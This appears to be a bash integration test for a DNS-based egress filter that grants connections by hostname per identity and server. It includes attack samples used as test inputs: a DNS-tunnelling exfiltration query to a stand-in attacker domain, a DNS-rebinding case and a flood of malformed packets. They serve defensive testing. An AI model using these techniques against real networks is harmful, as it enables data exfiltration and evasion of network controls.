#!/usr/bin/env bash
# Destinations by name: governed processes' DNS goes to the agent's resolver
# (UDP and TCP, any resolver address, IPv4, IPv6 and IPv4-mapped), which
# answers only names their (identity, server) is granted and installs the
# answer's addresses for that (identity, server) before releasing it.
# A real dnsmasq on 127.0.0.1 is the upstream. Connects to the public test
# addresses learned here run in a network namespace without routes: allowed
# is ENETUNREACH, denied EPERM; nothing leaves the host. The IPv6 answer is
# 2600::5, a public address: IPv6 documentation space counts as private.
. "$(dirname "$0")/../lib.sh"

command -v dnsmasq >/dev/null || skip_all "dnsmasq is not installed (scripts/deps.sh)"
command -v dig >/dev/null || skip_all "dig is not installed (scripts/deps.sh)"

UP=$((5300 + $$ % 100)) # dnsmasq's port (by pid: test runs may overlap)
dnsmasq --keep-in-foreground --no-resolv --no-hosts --bind-interfaces \
	--listen-address=127.0.0.1 --port=$UP --pid-file= --conf-file=/dev/null --user=root \
	--host-record=api.test,203.0.113.5,2600::5 \
	--host-record=multi.test,203.0.113.6 --host-record=multi.test,203.0.113.7 \
	--cname=alias.test,api.test \
	--host-record=short.test,203.0.113.8,2 \
	--host-record=evil.test,127.0.0.1 \
	--host-record=db.test,127.0.0.30 \
	--host-record=nope.test,203.0.113.9 \
	--host-record=other.test,203.0.113.10 \
	>"$MF_TMP/dnsmasq.out" 2>&1 &
kill_at_exit $!
disown $!
wait_for dig +short +tries=1 +time=1 @127.0.0.1 -p $UP api.test ||
	{ diag "dnsmasq did not start"; sed 's/^/#   /' "$MF_TMP/dnsmasq.out"; exit 1; }

cat >"$MF_TMP/policy.json" <<JSON
{
  "version": 1,
  "audit": { "allowed": "all" },
  "dns": { "upstream": ["127.0.0.1:$UP"], "min_ttl": 1, "max_ttl": 3600 },
  "servers": { "web": {}, "other": {}, "legacy": {} },
  "rules": [
    { "name": "alice-names", "server": "web", "who": ["alice"],
      "allow": [ { "host": "API.test.", "ports": [443], "proto": "tcp" },
                 { "host": "multi.test", "ports": ["443"] },
                 { "host": "alias.test", "ports": [443] },
                 { "host": "short.test", "ports": [443] },
                 { "host": "evil.test", "ports": [7001] },
                 { "host": "db.test", "ports": [7000], "private": true },
                 { "host": "localhost", "ports": [7002], "private": true } ] },
    { "name": "bob-names", "server": "web", "who": ["bob"],
      "allow": [ { "host": "api.test", "ports": [443] },
                 { "host": "multi.test", "ports": [443] },
                 { "host": "*.wild.test" } ],
      "deny": [ { "to": "203.0.113.7/32" } ] },
    { "name": "alice-other", "server": "other", "who": ["alice"],
      "allow": [ { "host": "other.test" } ] },
    { "name": "any-other", "server": "other", "who": ["*"],
      "allow": [ { "host": "localhost", "ports": [7003], "private": true } ] },
    { "name": "legacy-resolver", "server": "legacy", "who": ["alice"],
      "allow": [ { "to": "192.0.2.53/32", "ports": [53], "proto": "udp" } ] }
  ]
}
JSON
agent_start "$MF_TMP/policy.json" || exit 1

# Governed processes, as root without capabilities or seccomp: the hooks answer.
gov() { local who=$1 srv=$2; shift 2; mf run --allow-root --no-harden --identity "$who" --server "$srv" -- "$@" 2>/dev/null; }
# A connect from a namespace without routes: ENETUNREACH when allowed.
reach() { unshare -n sh -c "ip link set lo up && exec '$MF_BUILD/mcpfence' --socket '$MF_SOCK' \
	run --allow-root --no-harden --identity $1 --server $2 -- \
	'$MF_HELPERS/probe' connect tcp $3 $4" 2>/dev/null; }
dnsq() { gov "$1" "$2" "$MF_HELPERS/dnsq" "${@:3}"; }
qdig() { dig +tries=1 +time=2 "$@"; }

# Names of /etc/hosts never reach DNS: those granted are installed from the file.
if grep -qE '^127\.0\.0\.1[[:space:]].*\blocalhost\b' /etc/hosts; then
	is "$(gov alice web "$MF_HELPERS/probe" connect tcp 127.0.0.1 7002)" ECONNREFUSED \
		"/etc/hosts: localhost, granted to alice on web, is open without a lookup"
	is "$(gov bob web "$MF_HELPERS/probe" connect tcp 127.0.0.1 7002)" EPERM "not to bob"
	is "$(gov bob other "$MF_HELPERS/probe" connect tcp 127.0.0.1 7003)" ECONNREFUSED \
		"a \"*\" rule's /etc/hosts name: to anyone on its server"
	is "$(gov bob web "$MF_HELPERS/probe" connect tcp 127.0.0.1 7003)" EPERM "only on its server"
else
	ok 0 "# SKIP /etc/hosts has no 127.0.0.1 localhost line"
fi

# Raw UDP (dig) to a resolver that is not there: redirected.
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 api.test)" 203.0.113.5 \
	"a granted name resolves through the agent (udp, 127.0.0.1:53)"
is "$(reach alice web 203.0.113.5 443)" ENETUNREACH "its address is then open to alice's web server"
is "$(reach alice web 203.0.113.5 444)" EPERM "for the rule's ports only"
is "$(reach bob web 203.0.113.5 443)" EPERM "not to bob (granted the same name, not resolved by him)"
is "$(reach alice other 203.0.113.5 443)" EPERM "nor to alice's other server"
is "$(gov bob web dig +short +tries=1 +time=2 @127.0.0.1 api.test)" 203.0.113.5 "bob resolves it"
is "$(reach bob web 203.0.113.5 443)" ENETUNREACH "then it is open to bob"

out=$(mf policy explain --identity alice --server web --to api.test:443/tcp)
like "$out" "granted by rule 'alice-names'" "explain: the rule that grants a name"
like "$out" "learned now: 203.0.113.5 for [0-9]+s: 443-443/tcp" "explain: the addresses learned now"
like "$(mf policy explain --identity bob --server other --to api.test)" "deny: no rule grants" \
	"explain: a name not granted"

out=$(gov alice web dig +tries=1 +time=2 @127.0.0.1 nope.test)
like "$out" "status: NXDOMAIN" "a name no rule grants: NXDOMAIN"
wait_for grep -q '"event":"dns".*"name":"nope.test"' "$MF_AUDIT_LOG"
like "$(grep '"name":"nope.test"' "$MF_AUDIT_LOG")" '"verdict":"deny"' "audited with the name"
is "$(reach alice web 203.0.113.9 443)" EPERM "and nothing is installed"
like "$(gov alice web dig +tries=1 +time=2 @127.0.0.1 TXT exfil-data-here.attacker.test)" \
	"status: NXDOMAIN" "tunnelling through port 53: names not granted carry nothing out"

is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 multi.test | sort | tr '\n' ' ')" \
	"203.0.113.6 203.0.113.7 " "several addresses"
is "$(reach alice web 203.0.113.6 443)$(reach alice web 203.0.113.7 443)" ENETUNREACHENETUNREACH \
	"every address of the answer is installed"
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 alias.test | tail -1)" 203.0.113.5 \
	"a CNAME is followed"
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 AAAA api.test)" 2600::5 "AAAA"
is "$(reach alice web 2600::5 443)" ENETUNREACH "the IPv6 address is installed"

wait_for grep -q '"event":"connect".*"addr":"203.0.113.5".*"via":"name"' "$MF_AUDIT_LOG"
like "$(grep '"addr":"203.0.113.5"' "$MF_AUDIT_LOG" | grep '"verdict":"allow"' | head -1)" \
	'"rule":"alice-names","via":"name","host":"api.test"' "a connect allowed through a name is audited with it"

# An explicit deny of the rule set wins over an address learned from a name.
gov bob web dig +short +tries=1 +time=2 @127.0.0.1 multi.test >/dev/null
is "$(reach bob web 203.0.113.6 443)" ENETUNREACH "bob's multi.test address is open"
is "$(reach bob web 203.0.113.7 443)" EPERM "but not the one his rules deny"

# Resolvers at other addresses and over other transports are interposed too.
is "$(gov alice web dig +short +tries=1 +time=2 @::1 api.test)" 203.0.113.5 "resolver at ::1"
is "$(dnsq alice web udp ::ffff:127.0.0.1 53 api.test)" "203.0.113.5 FROM ::ffff:127.0.0.1#53" \
	"resolver at a v4-mapped address, the reply from where the query went"
is "$(dnsq alice web connected ::ffff:192.0.2.1 53 api.test)" "203.0.113.5 FROM ::ffff:192.0.2.1#53" \
	"connected, v4-mapped"
is "$(dnsq alice web udp 192.0.2.1 53 api.test)" "203.0.113.5 FROM 192.0.2.1#53" \
	"unconnected sendto: the reply's source is the server asked"
is "$(dnsq alice web connected 2001:db8::53 53 api.test aaaa)" "2600::5 FROM 2001:db8::53#53" \
	"connected, IPv6"
is "$(gov alice web dig +short +tries=1 +time=2 @192.0.2.53 api.test)" 203.0.113.5 \
	"resolver at any address (never reached)"
is "$(gov alice web dig +tcp +short +tries=1 +time=2 @127.0.0.1 api.test)" 203.0.113.5 "DNS over TCP"
is "$(gov alice web dig +tcp +short +tries=1 +time=2 @::1 api.test)" 203.0.113.5 "DNS over TCP, v6"
# Two queries pipelined on one connection: both answered, in turn.
q() { printf '\x00\x1a\x00'"$1"'\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x04test\x00\x00\x01\x00\x01'; }
is "$(gov alice web bash -c "exec 3<>/dev/tcp/127.0.0.1/53; { $(declare -f q); q '\x01'; q '\x02'; } >&3;
	timeout 2 cat <&3" | od -An -v -tx1 | tr -d ' \n' | grep -o cb007105 | wc -l)" 2 \
	"DNS over TCP: pipelined queries are all answered"

# Rebinding: a name answered with a loopback address is not installed without "private".
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 evil.test)" 127.0.0.1 "evil.test resolves"
is "$(gov alice web "$MF_HELPERS/probe" connect tcp 127.0.0.1 7001)" EPERM \
	"its loopback answer is not installed"

# getaddrinfo through glibc, with a private resolv.conf: the first connect succeeds.
echo "nameserver 127.0.0.53" >"$MF_TMP/resolv.conf"
gai() { unshare -m sh -c "mount --bind '$MF_TMP/resolv.conf' /etc/resolv.conf &&
	exec '$MF_BUILD/mcpfence' --socket '$MF_SOCK' run --allow-root --no-harden \
	--identity $1 --server $2 -- '$MF_HELPERS/resolve' $3 $4 ${5:-}" 2>/dev/null; }
is "$(gai alice web db.test 7000 4)" "127.0.0.30 ECONNREFUSED" \
	"getaddrinfo: a private name granted with \"private\": the first connect goes through"
is "$(gai bob web db.test 7000 4)" "EAI EAI_NONAME" "bob: the name does not exist"

# Expiry (TTL 2, min_ttl 1) is checked by the kernel.
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 short.test)" 203.0.113.8 "a short TTL"
is "$(reach alice web 203.0.113.8 443)" ENETUNREACH "open while it lasts"
sleep 2.5
is "$(reach alice web 203.0.113.8 443)" EPERM "closed for new connects once expired"

# Ungoverned processes resolve as before, not through the agent.
is "$(qdig +short @127.0.0.1 -p $UP nope.test)" 203.0.113.9 "ungoverned: resolves anything"
like "$(qdig @127.0.0.1 api.test 2>&1)" "connection refused|timed out|no servers" \
	"ungoverned: port 53 is not redirected"

# A flood of malformed packets leaves the resolver serving.
gov alice web bash -c 'for i in $(seq 300); do printf "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00" >/dev/udp/127.0.0.1/53; printf "\xff" >/dev/udp/127.0.0.1/53; done'
is "$(gov alice web dig +short +tries=1 +time=2 @127.0.0.1 api.test)" 203.0.113.5 \
	"still serving after 600 malformed packets"
like "$(mf status)" "malformed=[1-9][0-9][0-9]" "and they are counted"

# A policy load keeps what the new policy grants too, and drops the rest.
gov alice web dig +short +tries=1 +time=2 @127.0.0.1 api.test >/dev/null
gov alice web dig +short +tries=1 +time=2 @127.0.0.1 multi.test >/dev/null
mf policy load "$MF_TMP/policy.json" >/dev/null
is "$(reach alice web 203.0.113.5 443)" ENETUNREACH "reloaded: a learned address stays open"
sed -e 's/{ "host": "API.test.", "ports": \[443\], "proto": "tcp" }/{ "host": "api2.test" }/' \
	-e 's/{ "host": "multi.test", "ports": \["443"\] }/{ "host": "multi.test", "ports": [8443] }/' \
	"$MF_TMP/policy.json" >"$MF_TMP/policy2.json"
mf policy load "$MF_TMP/policy2.json" >/dev/null || diag "$(mf policy check "$MF_TMP/policy2.json" 2>&1)"
is "$(reach alice web 203.0.113.5 443)" EPERM "a policy that no longer grants the name closes it"
is "$(reach alice web 203.0.113.6 443)$(reach alice web 203.0.113.6 8443)" EPERMENETUNREACH \
	"one that grants it on other ports: the new ports"
mf policy load "$MF_TMP/policy.json" >/dev/null

# A policy written with addresses that lets a server reach a resolver: its
# queries to that resolver pass unfiltered (as before names); nothing is learned.
is "$(dnsq alice legacy udp 192.0.2.53 53 nope.test)" "203.0.113.9 FROM 192.0.2.53#53" \
	"a resolver allowed by address: queries pass"
is "$(reach alice legacy 203.0.113.9 443)" EPERM "and nothing is learned from them"
is "$(dnsq alice legacy udp 192.0.2.54 53 nope.test)" "rcode=3 FROM 192.0.2.54#53" \
	"another resolver: names only"

# Wildcards, and explicit denies of the rule set over learned addresses.
is "$(dnsq bob web udp 127.0.0.1 53 a.b.wild.test)" "rcode=5 FROM 127.0.0.1#53" \
	"a wildcard grants the lookup (forwarded: dnsmasq refuses names it does not hold)"
is "$(dnsq bob web udp 127.0.0.1 53 wild.test)" "rcode=3 FROM 127.0.0.1#53" \
	"not the apex (the agent's NXDOMAIN)"
like "$(grep '"name":"wild.test"' "$MF_AUDIT_LOG")" '"verdict":"deny"' "the apex is refused by the agent"

# The agent stopped: governed processes get no DNS at all (refused in the
# kernel, not sent anywhere), ungoverned ones as before.
agent_stop
MF_KEEP_PINS=1 agent_start "$MF_TMP/policy.json" || exit 1
gov alice web sh -c "sleep 1; '$MF_HELPERS/dnsq' udp 127.0.0.1 53 api.test" >"$MF_TMP/down.out" &
bg=$!
sleep 0.3
kill -TERM "$MF_AGENT_PID"
wait "$MF_AGENT_PID"
MF_AGENT_PID=
wait $bg
is "$(cat "$MF_TMP/down.out")" EPERM "agent stopped: a governed process's DNS is refused"
is "$(qdig +short @127.0.0.1 -p $UP api.test)" 203.0.113.5 "agent stopped: ungoverned DNS works"

done_testing
